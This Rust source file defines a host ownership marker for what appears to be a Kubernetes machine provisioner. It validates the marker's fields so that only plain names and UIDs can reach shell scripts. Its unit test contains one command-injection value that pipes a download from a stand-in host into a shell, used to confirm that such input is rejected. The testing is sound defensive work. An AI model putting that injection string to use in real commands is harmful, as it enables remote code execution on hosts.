//! The ownership marker: which Machine has a host, according to the host itself.

use serde::{Deserialize, Serialize};

use super::job::{Job, JobKind};
use crate::words;

/// The ownership marker of a host: `/var/lib/tatara/owner.json`, mode 0600. Every script of a
/// Machine compares it before its first write, so that a lost, restored or duplicated management
/// cluster cannot touch another's node.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Marker {
    /// UID of the management cluster: of its namespace kube-system.
    pub management: String,
    /// Namespace of the Machine.
    pub namespace: String,
    /// Name of the Machine's Cluster.
    pub cluster: String,
    /// Name of the Machine.
    pub machine: String,
    /// UID of the Machine.
    pub uid: String,
}

impl Marker {
    /// Whether both name the same Machine of the same management cluster, by UID; names are not
    /// compared.
    pub fn is_same_machine(&self, other: &Self) -> bool {
        self.management == other.management && self.uid == other.uid
    }

    /// The job of this kind for the Machine.
    pub fn job(&self, kind: JobKind) -> Job {
        Job::new(kind, &self.uid)
    }

    /// The first field that is no name or UID, as the API server has them. A host may say anything,
    /// and these stand in commands.
    fn odd_field(&self) -> Option<&'static str> {
        let fields = [
            ("management", &self.management),
            ("namespace", &self.namespace),
            ("cluster", &self.cluster),
            ("machine", &self.machine),
            ("uid", &self.uid),
        ];
        let odd = fields
            .into_iter()
            .find(|(_, value)| !words::is_plain(value));
        odd.map(|(field, _)| field)
    }

    pub(super) fn json(&self) -> String {
        serde_json::json!({
            "management": self.management,
            "namespace": self.namespace,
            "cluster": self.cluster,
            "machine": self.machine,
            "uid": self.uid,
        })
        .to_string()
    }
}

/// A marker as it was read from a host.
#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
pub struct Owner {
    /// Which Machine has the host.
    #[serde(flatten)]
    pub marker: Marker,
    /// `kubeadm init` succeeded here: the host holds a control plane that must not be made again.
    #[serde(default)]
    pub initialized: bool,
    /// `kubeadm join` succeeded here: the host is a node that must not be undone for another
    /// attempt.
    #[serde(default)]
    pub joined: bool,
}

/// Who has a host.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Ownership {
    /// There is no marker.
    Nobody,
    /// A Machine, ours or not.
    Owner(Owner),
    /// There is a marker that cannot be read: the host is left alone, as if it belonged to another.
    Unreadable(String),
}

impl Ownership {
    pub(super) fn read(text: Option<String>) -> Self {
        match text {
            None => Self::Nobody,
            Some(text) => match serde_json::from_str::<Owner>(&text) {
                Ok(owner) => match owner.marker.odd_field() {
                    None => Self::Owner(owner),
                    Some(field) => Self::Unreadable(format!("its field {field} is no name or UID")),
                },
                Err(_) => Self::Unreadable(text),
            },
        }
    }

    /// The marker's owner, when it is this Machine.
    pub fn of(&self, marker: &Marker) -> Option<&Owner> {
        match self {
            Self::Owner(owner) if owner.marker.is_same_machine(marker) => Some(owner),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    type Field = fn(&mut Marker) -> &mut String;

    #[test]
    fn a_marker_whose_fields_are_no_names_is_unreadable() {
        let own = Marker {
            management: "0d7a2f0e-11c1-4f5b-9d1c-3f0c7f6a1b2c".into(),
            namespace: "default".into(),
            cluster: "c1".into(),
            machine: "c1-cp.example".into(),
            uid: "5e2b7a64-11c1-4f5b-9d1c-3f0c7f6a1b2c".into(),
        };
        let read = |marker: &Marker| Ownership::read(Some(marker.json()));
        assert!(read(&own).of(&own).is_some());
        let table: [(&str, Field); 5] = [
            ("management", |marker| &mut marker.management),
            ("namespace", |marker| &mut marker.namespace),
            ("cluster", |marker| &mut marker.cluster),
            ("machine", |marker| &mut marker.machine),
            ("uid", |marker| &mut marker.uid),
        ];
        for (name, field) in table {
            for value in ["x'; curl evil.example|sh; '", "", "--all", "a b"] {
                let mut marker = own.clone();
                *field(&mut marker) = value.into();
                let why = format!("its field {name} is no name or UID");
                assert_eq!(read(&marker), Ownership::Unreadable(why), "{value}");
            }
        }
    }
}
